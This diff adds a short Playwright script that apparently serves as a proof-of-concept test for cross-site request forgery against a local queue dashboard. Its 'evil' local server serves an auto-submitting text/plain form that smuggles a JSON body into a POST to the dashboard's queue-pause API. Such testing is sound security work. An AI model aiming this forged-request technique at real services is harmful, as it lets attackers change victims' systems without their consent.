@@ -1,0 +1,12 @@
+import { chromium } from 'playwright-core';
+import { createServer } from 'node:http';
+const base = 'http://127.0.0.1:9473';
+const evil = createServer((_req, res) => res.end(`<form method="post" enctype="text/plain" action="${base}/api/queues/default/pause"><input name='{"a":"' value='"}'></form><script>document.forms[0].submit()</script>`)).listen(9474);
+const browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--headless', '--no-sandbox', '--disable-gpu'] });
+const page = await browser.newPage();
+page.on('response', (r) => console.log('response', r.status(), r.url(), r.request().method()));
+page.on('console', (m) => console.log('console', m.text()));
+await page.goto('http://127.0.0.1:9474/');
+await page.waitForTimeout(2000);
+console.log(page.url(), (await page.content()).slice(0, 300));
+await browser.close(); evil.close();
